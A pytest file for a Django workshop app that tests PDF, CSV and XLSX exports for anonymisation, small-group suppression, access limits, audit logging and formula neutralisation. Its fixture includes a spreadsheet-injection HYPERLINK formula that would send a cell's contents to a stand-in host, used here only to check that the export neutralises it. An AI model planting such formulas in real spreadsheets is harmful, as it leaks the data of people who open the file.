"""The workshop's documentation: the day's PDF for the workshop folder and the raw data as XLSX
and CSV, without personal data, never a group of fewer than five, formulas neutralised."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from cohesion.audit.models import AuditEvent
from cohesion.workshops import documentation
from cohesion.workshops.models import Answer, Card, Item, WorkshopParticipant
from tests.workshops.helpers import TITLES, scale_item

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'
NICKNAME = "Zebrafink"


@pytest.fixture
def room(workshop):
    """A Likert item answered by five immigrants (agree) and four policymakers (disagree), one
    with a nickname; an open item with a formula card, a plain card and a rejected one."""
    item = scale_item(workshop)
    people = []
    for n in range(9):
        group = "immigrant" if n < 5 else "policy"
        person = WorkshopParticipant.objects.create(
            workshop=workshop,
            device_hash=f"{n:064x}",
            language="de",
            nickname=NICKNAME if n == 0 else "",
            group=group,
            attributes=["Jahre in Kerpen: 3"],
        )
        people.append(person)
        Answer.objects.create(
            item=item,
            participant=person,
            value=4 if group == "immigrant" else 2,
            client_key=f"k{n}",
        )
    cards_item = (
        Item.objects.filter(workshop=workshop, day=item.day, kind="open")
        .order_by("position")
        .first()
    )
    Card.objects.create(item=cards_item, participant=people[0], text=FORMULA, language="de")
    Card.objects.create(
        item=cards_item, participant=people[1], text="Sprachcafé am Abend", language="de"
    )
    Card.objects.create(
        item=cards_item,
        participant=people[2],
        text="Rejected and never shown",
        moderation=Card.Moderation.REJECTED,
    )
    return item


def _urls(workshop, item):
    return [
        reverse("workshops:day_pdf", args=[workshop.pk, item.day_id]),
        reverse("workshops:export_xlsx", args=[workshop.pk]),
        reverse("workshops:export_csv", args=[workshop.pk]),
        reverse("workshops:export_csv", args=[workshop.pk]) + "?part=cards",
    ]


def test_the_day_pdf_is_a_paged_document_with_the_results(client, world, workshop, room):
    client.force_login(world.moderator)
    response = client.get(reverse("workshops:day_pdf", args=[workshop.pk, room.day_id]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")

    day = room.day
    with translation.override("en"):
        html = documentation.day_html(workshop=workshop, day=day, language="en")
    # The title in the workshop's source language, the count, the mean, the cards.
    assert TITLES["de"] in html
    assert "9 answers" in html
    assert "3.11" in html  # (5 × 4 + 4 × 2) / 9
    assert "Sprachcafé am Abend" in html
    assert "Rejected and never shown" not in html
    assert "<svg" in html  # the chart
    # Five immigrants are shown as a group, four policymakers are not.
    assert "Immigrant or immigrant organisation" in html
    assert "Policymaker" not in html
    assert "1 group was left out for this item." in html
    assert NICKNAME not in html
    pages = documentation.day_pdf_document(html=html).pages
    # Title page, contents, and a page per item of the day.
    items = Item.objects.filter(day=day).count()
    assert len(pages) >= 2 + items


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_holds_answers_without_personal_data(client, world, workshop, room):
    client.force_login(world.moderator)
    response = client.get(reverse("workshops:export_csv", args=[workshop.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    with translation.override("de"):
        header, *rows = _csv(response.content)
    assert len(rows) == 9
    assert {row[4] for row in rows} == {str(n) for n in range(1, 10)}  # numbers, not ids
    groups = [row[7] for row in rows]
    assert groups.count("") == 4  # four policymakers: no group written
    assert len(set(groups) - {""}) == 1
    text = response.content.decode("utf-8-sig")
    assert NICKNAME not in text
    assert "Jahre in Kerpen" not in text
    for person in WorkshopParticipant.objects.filter(workshop=workshop):
        assert person.device_hash not in text
    # Answered at: to the minute.
    assert len(rows[0][8]) == len("2026-01-01 10:00")


def test_the_cards_csv_neutralises_formulas(client, world, workshop, room):
    client.force_login(world.moderator)
    response = client.get(reverse("workshops:export_csv", args=[workshop.pk]) + "?part=cards")
    header, *rows = _csv(response.content)
    cards = [row[3] for row in rows]
    assert "'" + FORMULA in cards
    assert FORMULA not in cards
    assert "Sprachcafé am Abend" in cards
    assert "Rejected and never shown" not in cards
    assert NICKNAME not in response.content.decode("utf-8-sig")


def test_the_xlsx_has_answers_and_cards_neutralised(client, world, workshop, room):
    client.force_login(world.moderator)
    response = client.get(reverse("workshops:export_xlsx", args=[workshop.pk]))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["answers", "cards"]
    answers = list(workbook["answers"].iter_rows(min_row=2, values_only=True))
    assert len(answers) == 9
    assert sum(1 for row in answers if row[7] is None) == 4
    cards = workbook["cards"]
    texts = [cell.value for cell in cards["D"][1:]]
    assert "'" + FORMULA in texts
    assert all(cell.data_type == "s" for cell in cards["D"])
    values = [
        str(cell.value)
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert not any(NICKNAME in value for value in values)
    hashes = set(WorkshopParticipant.objects.values_list("device_hash", flat=True))
    assert not hashes & set(values)


@pytest.mark.parametrize("role", ["outsider", "other_coordinator", "working_group_member"])
def test_others_get_404(client, world, workshop, room, role):
    client.force_login(world.by_role(role))
    for url in _urls(workshop, room):
        assert client.get(url).status_code == 404, url
    assert not AuditEvent.objects.filter(action=documentation.EXPORT).exists()


def test_each_export_is_audited(client, world, workshop, room):
    client.force_login(world.moderator)
    for url in _urls(workshop, room):
        assert client.get(url).status_code == 200
    events = AuditEvent.objects.filter(action=documentation.EXPORT).order_by("pk")
    assert [event.after["format"] for event in events] == [
        "pdf",
        "xlsx",
        "csv-answers",
        "csv-cards",
    ]
    assert {event.municipality_id for event in events} == {world.kerpen.pk}
    assert {event.programme_id for event in events} == {world.kerpen_process.programme_id}
    assert {event.actor_id for event in events} == {world.moderator.pk}


def test_a_group_four_of_whom_answered_an_item_is_written_nowhere(workshop, room):
    """The participant number relates the rows: the group is left out of all of them, or the
    four could be counted through their other answers."""
    other = (
        Item.objects.filter(workshop=workshop, kind="scale").exclude(pk=room.pk).order_by("pk")
    ).first()
    for person in WorkshopParticipant.objects.filter(group="immigrant")[:4]:
        Answer.objects.create(item=other, participant=person, value=5, client_key="again")
    with translation.override("en"):
        _header, rows = documentation.answer_rows(workshop=workshop)
    assert len(rows) == 13
    assert {row[7] for row in rows} == {""}
    # The PDF's count per item still shows the five on the first item.
    with translation.override("en"):
        html = documentation.day_html(workshop=workshop, day=room.day, language="en")
    assert "Immigrant or immigrant organisation" in html


def test_answers_are_written_in_words(workshop):
    from cohesion.workshops.kinds import KINDS

    person = WorkshopParticipant.objects.create(
        workshop=workshop, device_hash="f" * 64, language="de"
    )
    day = workshop.days.first()
    config = {
        "options": [{"de": "Sprachcafé"}, {"de": "=Patenschaften"}],
        "criteria": [{"de": "Reichweite"}],
        "steps": 5,
        "budget": 5,
    }
    values = {"dots": {"0": 3, "1": 2}, "ranking": [1, 0], "rating": {"0": 4}, "single": 1}
    for kind, value in values.items():
        item = Item.objects.create(
            workshop=workshop, day=day, kind=kind, title={"de": f"Frage {kind}"}, config=config
        )
        stored = KINDS[kind].answer_clean(value, config)  # as the phone's answer is stored
        Answer.objects.create(item=item, participant=person, value=stored, client_key=kind)
    with translation.override("en"):
        _header, rows = documentation.answer_rows(workshop=workshop)
    written = {row[2]: row[5] for row in rows}
    assert written["Frage dots"] == "Sprachcafé: 3; =Patenschaften: 2"
    assert written["Frage ranking"] == "1. =Patenschaften; 2. Sprachcafé"
    assert written["Frage rating"] == "Reichweite: 4"
    assert written["Frage single"] == "=Patenschaften"
    # An option written like a formula is neutralised in the file.
    response_rows = _csv(documentation.export_csv(workshop=workshop))
    assert "'=Patenschaften" in {row[5] for row in response_rows}
    assert "=Patenschaften" not in {row[5] for row in response_rows}
